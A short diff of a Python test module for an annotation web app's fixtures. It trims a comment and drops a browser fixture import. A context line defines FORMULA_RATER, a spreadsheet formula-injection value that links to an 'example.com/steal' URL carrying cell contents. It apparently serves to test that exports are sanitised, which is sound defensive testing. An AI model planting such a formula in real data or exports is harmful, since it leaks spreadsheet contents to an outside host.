@@ -22,8 +22,8 @@ from tests import test_web
 from tests.test_web import PASSWORD, open_as
 
 # The annotation page's fixtures, shared by naming them here: the app on a free port with three
-# open tasks and the accounts ann1, ann2 and boss (an admin), and Debian's Chromium.
-app_url, browser = test_web.app_url, test_web.browser
+# open tasks and the accounts ann1, ann2 and boss (an admin).
+app_url = test_web.app_url
 
 FORMULA_RATER = '=HYPERLINK("http://example.com/steal?x="&A1,"click me")'
 
